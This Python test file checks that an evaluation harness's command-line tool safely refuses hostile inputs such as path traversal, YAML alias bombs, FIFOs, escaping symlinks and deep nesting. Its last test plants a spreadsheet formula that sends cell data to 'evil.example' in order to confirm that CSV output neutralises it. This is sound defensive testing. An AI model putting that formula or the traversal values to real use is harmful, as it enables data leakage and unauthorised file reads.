"""The hostile-input corpus (tests/data/hostile): every case ends in one error line naming the file (exit 2),
nothing outside the input folders is read, nothing outside the output folder is touched, the good candidates
are still evaluated, and each small hostile file costs little time and memory.

FIFOs, links that lead out of the tree and a 1 MB one-line candidate cannot live in git: the fixture makes them."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time

import pandas as pd
import pytest
from conftest import ROOT

from harness.cli import main

SECRET = "A private file outside the input folders."
EXPECTED = {
    "gold/escape/story.yaml": "references/0/file: '",  # ... leads outside ... : refused
    "gold/absolute/story.yaml": "references/0/file: '/etc/hostname' is an absolute path",
    "gold/etc-id/story.yaml": "id: '../../../etc' is not a plain name",
    "gold/bomb/story.yaml": "YAML aliases (*name) are not allowed",
    "gold/deep-yaml/story.yaml": "nested more than 32 levels deep",
    "gold/fifo-ref/ref.txt": "not a regular file (a FIFO, device or socket): refused",
    "gold/twin-b/story.yaml": "id: duplicate story id 'twin'",
    "candidates/ok/bomb.md": "front matter: invalid YAML: YAML aliases (*name) are not allowed",
    "candidates/ok/deep.json": "JSON nested more than 32 levels deep: refused",
    "candidates/ok/deep-metadata.json": "JSON nested more than 32 levels deep: refused",
    "candidates/ok/late-nul.txt": "binary data (NUL bytes, first at byte 10250)",
    "candidates/ok/fifo.txt": "not a regular file (a FIFO, device or socket): refused",
    "candidates/ok/link-out.txt": "leads outside",
    "candidates/ok/surrogate.json": "a JSON string (summary) holds a lone surrogate \\ud800 at character 31",
}
RUN_ONLY = {"candidates/ok/long-line.txt": "more than 1000 sentences"}  # readable; too long to judge as a summary


@pytest.fixture(scope="module")
def corpus(tmp_path_factory, config):
    root = tmp_path_factory.mktemp("hostile")
    shutil.copytree(ROOT / "tests/data/hostile", root, dirs_exist_ok=True)
    (root / "outside.txt").write_text(SECRET, "utf-8")
    os.mkfifo(root / "gold/fifo-ref/ref.txt")
    (root / "candidates/fifo-ref").mkdir()
    (root / "candidates/fifo-ref/c.txt").write_text("The council approved the plan on Monday.\n", "utf-8")
    os.mkfifo(root / "candidates/ok/fifo.txt")
    (root / "candidates/ok/link-out.txt").symlink_to(root / "outside.txt")
    (root / "candidates/ok/long-line.txt").write_text("The council met again and approved a plan. " * 23_000, "utf-8")
    (root / "harness.toml").write_text(f'[paths]\ncache = "{config.cache}"\n', "utf-8")
    return root


def _harness(corpus, *args, timeout=60):
    """Run the CLI in a child of a small wrapper, so the child's peak memory is measured alone."""
    command = [
        sys.executable,
        "-m",
        "harness.cli",
        *args,
        "--config",
        str(corpus / "harness.toml"),
        "--gold",
        str(corpus / "gold"),
        "--candidates",
        str(corpus / "candidates"),
    ]
    wrapper = (
        "import json, resource, subprocess, sys; r = subprocess.run(sys.argv[1:], capture_output=True, text=True);"
        "print(json.dumps([r.returncode, r.stdout, r.stderr, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss]))"
    )
    started = time.perf_counter()
    done = subprocess.run(
        [sys.executable, "-c", wrapper, *command],
        capture_output=True,
        text=True,
        cwd=corpus,
        timeout=timeout,
        env={**os.environ, "HF_HUB_OFFLINE": "1"},
    )
    code, out, err, peak_kb = json.loads(done.stdout)
    return code, out, err, peak_kb / 1024, time.perf_counter() - started


def _error_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("error: ")]


def test_validate_names_every_hostile_file_quickly_and_in_little_memory(corpus):
    code, _, err, peak_mb, seconds = _harness(corpus, "validate")
    assert code == 2 and "Traceback" not in err, err
    lines = _error_lines(err)
    for name, problem in EXPECTED.items():
        matching = [line for line in lines if f"{corpus / name}:" in line]
        assert len(matching) == 1 and problem in matching[0], (name, matching)
    assert len(lines) == len(EXPECTED), lines
    assert SECRET not in err and "/etc/hostname:" not in err
    assert peak_mb < 1024 and seconds < 60, (peak_mb, seconds)


def test_run_keeps_the_good_candidates_and_touches_nothing_outside(corpus):
    outside_before = sorted(p.name for p in corpus.iterdir())
    code, out, err, peak_mb, seconds = _harness(corpus, "run", "--quiet", "--out", str(corpus / "reports"), timeout=300)
    assert code == 2 and "Traceback" not in err, err
    rows = pd.read_csv(corpus / "reports/latest/candidates.csv")
    assert sorted(rows.loc[rows["status"] == "ok", "candidate"]) == ["good", "good"]  # stories ok and twin
    counts = pd.read_csv(corpus / "reports/latest/candidates.csv", dtype=str)["claims"].dropna()
    assert len(counts) and counts.str.fullmatch(r"\d+").all()  # whole numbers beside the error rows, not 8.0
    errors = " ".join(rows.loc[rows["status"] == "error", "error"].astype(str))
    for name, problem in {**EXPECTED, **RUN_ONLY}.items():
        assert problem in errors, name
    report = (corpus / "reports/latest/run.json").read_text("utf-8")
    assert SECRET not in report
    assert sorted(p.name for p in corpus.iterdir() if p.name != "reports") == outside_before  # only reports/ added
    assert (corpus / "outside.txt").read_text("utf-8") == SECRET
    assert peak_mb < 2048 and seconds < 120, (peak_mb, seconds)  # the models included


@pytest.mark.parametrize(
    "run_id", ["..", ".", "latest", "baseline", "a/b", "../x", ".hidden", "x" * 200, " ", "", " a"]
)
def test_a_run_id_that_is_not_a_plain_name_is_refused_before_any_work(tmp_path, capsys, run_id):
    reports = tmp_path / "reports"
    (reports / "baseline").mkdir(parents=True)
    (reports / "baseline/baseline.json").write_text("{}", "utf-8")
    (tmp_path / "keep.txt").write_text("mine", "utf-8")
    assert (
        main(
            [
                "run",
                "--gold",
                str(ROOT / "gold"),
                "--candidates",
                str(ROOT / "candidates"),
                "--out",
                str(reports),
                "--run-id",
                run_id,
            ]
        )
        == 2
    )
    err = capsys.readouterr().err
    assert err.startswith("error: --run-id: ") and len(err.strip().splitlines()) == 1, err
    assert (tmp_path / "keep.txt").read_text("utf-8") == "mine"
    assert sorted(p.name for p in reports.iterdir()) == ["baseline"]
    assert (reports / "baseline/baseline.json").read_text("utf-8") == "{}"


def test_an_existing_run_folder_is_never_replaced(tmp_path, capsys):
    reports = tmp_path / "reports"
    (reports / "done").mkdir(parents=True)
    (reports / "done/run.json").write_text("earlier", "utf-8")
    assert (
        main(
            [
                "run",
                "--gold",
                str(ROOT / "gold"),
                "--candidates",
                str(ROOT / "candidates"),
                "--out",
                str(reports),
                "--run-id",
                "done",
            ]
        )
        == 2
    )
    assert "already exists and is never replaced" in capsys.readouterr().err
    assert (reports / "done/run.json").read_text("utf-8") == "earlier"


def test_an_unwritable_reports_folder_is_found_before_evaluating(tmp_path, capsys):
    blocker = tmp_path / "file"
    blocker.write_text("not a folder", "utf-8")
    assert (
        main(
            [
                "run",
                "--gold",
                str(ROOT / "gold"),
                "--candidates",
                str(ROOT / "candidates"),
                "--out",
                str(blocker / "reports"),
            ]
        )
        == 2
    )
    err = capsys.readouterr().err
    assert "cannot create the reports folder" in err and "Traceback" not in err


def test_two_runs_with_one_run_id_never_share_a_folder(tmp_path, config):
    """One wins and writes a complete run; the other stops at once, exit 2, naming the folder."""
    (tmp_path / "h.toml").write_text(f'[paths]\ncache = "{config.cache}"\n', "utf-8")
    command = [
        sys.executable,
        "-m",
        "harness.cli",
        "run",
        "--quiet",
        "--config",
        str(tmp_path / "h.toml"),
        "--gold",
        str(ROOT / "gold"),
        "--candidates",
        str(ROOT / "candidates"),
        "--out",
        str(tmp_path / "reports"),
        "--run-id",
        "same",
    ]
    runs = [subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    results = [(p.wait(timeout=300), p.stderr.read()) for p in runs]
    assert sorted(code for code, _ in results) == [0, 2], results
    assert "already exists and is never replaced" in [err for code, err in results if code == 2][0]
    assert json.loads((tmp_path / "reports/same/run.json").read_text("utf-8"))["run_id"] == "same"
    assert (tmp_path / "reports/latest").resolve() == (tmp_path / "reports/same").resolve()
    assert not [p for p in (tmp_path / "reports").iterdir() if p.name.startswith(".")]


def _pairs(tmp_path, text: str):
    path = tmp_path / "in.jsonl"
    path.write_text(text, "utf-8")
    return path


@pytest.mark.parametrize(
    "text, problem",
    [
        ("42\n", "line 1: expected a JSON object {id, document, summary}, got int"),
        (
            '{"id": 1, "document": "a", "summary": "b"}\n{"id": 1, "document": "a", "summary": "b"}\n',
            "line 2: duplicate id 1 (also line 1)",
        ),
        ("[" * 5000 + "]" * 5000 + "\n", "line 1: JSON nested more than 32 levels deep: refused"),
        ('{"id": true, "document": "a", "summary": "b"}\n', "line 1: id must be a string or a whole number"),
        ("\n\n", "holds no rows: expected one JSON object {id, document, summary} per line"),
        (
            '{"id": 1, "document": "a", "summary": "b\\udfff"}\n',
            "line 1: a JSON string (summary) holds a lone surrogate",
        ),
    ],
)
def test_score_pairs_names_the_bad_line(tmp_path, capsys, text, problem):
    assert main(["score-pairs", str(_pairs(tmp_path, text)), "--out", str(tmp_path / "o.jsonl")]) == 2
    err = capsys.readouterr().err
    assert f"in.jsonl: {problem}" in err and len(err.strip().splitlines()) == 1, err


def test_score_pairs_refuses_a_folder_as_output_and_a_fifo_as_input_before_scoring(tmp_path, capsys):
    good = _pairs(tmp_path, '{"id": 1, "document": "a", "summary": "b"}\n')
    assert main(["score-pairs", str(good), "--out", str(tmp_path)]) == 2
    assert "is a folder: --out names the output file" in capsys.readouterr().err
    os.mkfifo(tmp_path / "pipe.jsonl")
    assert main(["score-pairs", str(tmp_path / "pipe.jsonl"), "--out", str(tmp_path / "o.jsonl")]) == 2
    assert "pipe.jsonl: not a regular file" in capsys.readouterr().err


def test_score_pairs_refuses_a_field_over_the_size_limit(tmp_path, capsys):
    (tmp_path / "h.toml").write_text("[ingest]\nmax_file_mb = 0.001\n", "utf-8")
    rows = _pairs(tmp_path, json.dumps({"id": "big", "document": "word " * 400, "summary": "A word."}) + "\n")
    assert (
        main(["score-pairs", str(rows), "--out", str(tmp_path / "o.jsonl"), "--config", str(tmp_path / "h.toml")]) == 2
    )
    assert "line 1: document is over the 0.001 MB limit" in capsys.readouterr().err


def test_score_pairs_reads_line_separators_inside_strings(tmp_path, config):
    """U+2028 is legal inside a JSON string; `str.splitlines` would break the row there."""
    (tmp_path / "h.toml").write_text(f'[paths]\ncache = "{config.cache}"\n', "utf-8")
    row = {
        "id": "ls",
        "document": "The council approved the plan\u2028on Monday.",
        "summary": "The council approved the plan.",
    }
    rows = _pairs(
        tmp_path,
        json.dumps(row, ensure_ascii=False) + "\n" + json.dumps({**row, "id": "none", "summary": "Sure!"}) + "\n",
    )
    out = tmp_path / "o.jsonl"
    assert main(["score-pairs", str(rows), "--out", str(out), "--quiet", "--config", str(tmp_path / "h.toml")]) == 0
    scored = {r["id"]: r for r in map(json.loads, out.read_text("utf-8").splitlines())}
    assert scored["ls"]["score"] > 0.5
    assert scored["none"]["score"] is None and "no scorable claim" in scored["none"]["reason"]


@pytest.mark.parametrize(
    "toml, problem",
    [
        ('[judge]\nname = "evidence"\noptions = { chunks = "all" }\n', "judge 'evidence' takes no option 'chunks'"),
        ("[gate]\nbootstrap_samples = 0\n", "gate.bootstrap_samples"),
        ('[models]\nembedding = "/nonexistent/model"\n', "model folder /nonexistent/model does not exist"),
    ],
)
def test_a_bad_setting_is_one_line_before_any_work(tmp_path, capsys, toml, problem):
    (tmp_path / "h.toml").write_text(toml, "utf-8")
    for command in (["validate"], ["run", "--out", str(tmp_path / "reports")]):
        if problem.startswith("model folder") and command == ["validate"]:
            continue  # validate loads no model
        assert (
            main(
                [
                    *command,
                    "--config",
                    str(tmp_path / "h.toml"),
                    "--gold",
                    str(ROOT / "gold"),
                    "--candidates",
                    str(ROOT / "candidates"),
                ]
            )
            == 2
        )
        err = capsys.readouterr().err
        assert problem in err and len(err.strip().splitlines()) == 1, err
    assert not (tmp_path / "reports").exists() or not any((tmp_path / "reports").iterdir())


def test_gate_report_paths_are_checked_before_the_gate(tmp_path, capsys):
    (tmp_path / "file").write_text("x", "utf-8")
    for option, path in (("--markdown", tmp_path), ("--junit", tmp_path / "file" / "gate.xml")):
        assert main(["gate", "--no-baseline", option, str(path)]) == 2
        err = capsys.readouterr().err
        assert err.startswith(f"error: {path}") and "PASSED" not in err, err


def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path, config):
    """A summary is untrusted text: a claim starting with "=" is written to the CSVs with an apostrophe in
    front, so opening claims.csv in a spreadsheet shows it rather than running it; run.json keeps it."""
    (tmp_path / "gold/s").mkdir(parents=True)
    (tmp_path / "cands/s").mkdir(parents=True)
    (tmp_path / "gold/s/ref.txt").write_text("The council approved the plan on Monday.\n", "utf-8")
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"The council approved the plan")'
    (tmp_path / "cands/s/@evil.txt").write_text(f"{formula}\n+The plan passed on Monday.\n", "utf-8")
    (tmp_path / "h.toml").write_text(f'[paths]\ncache = "{config.cache}"\n', "utf-8")
    out = tmp_path / "reports"
    args = ["run", "--quiet", "--config", str(tmp_path / "h.toml"), "--gold", str(tmp_path / "gold")]
    assert main(args + ["--candidates", str(tmp_path / "cands"), "--out", str(out)]) in (0, 1)
    for name in ("claims.csv", "candidates.csv", "systems.csv"):
        rows = pd.read_csv(out / "latest" / name, keep_default_na=False, dtype=str)
        cells = [cell for column in rows.columns for cell in rows[column]]
        assert not [c for c in cells if c.startswith(("=", "+", "@"))], name
    claims = pd.read_csv(out / "latest/claims.csv", keep_default_na=False)
    assert any(text.startswith("'=HYPERLINK") for text in claims["claim"])
    assert formula in (out / "latest/run.json").read_text("utf-8").replace('\\"', '"')
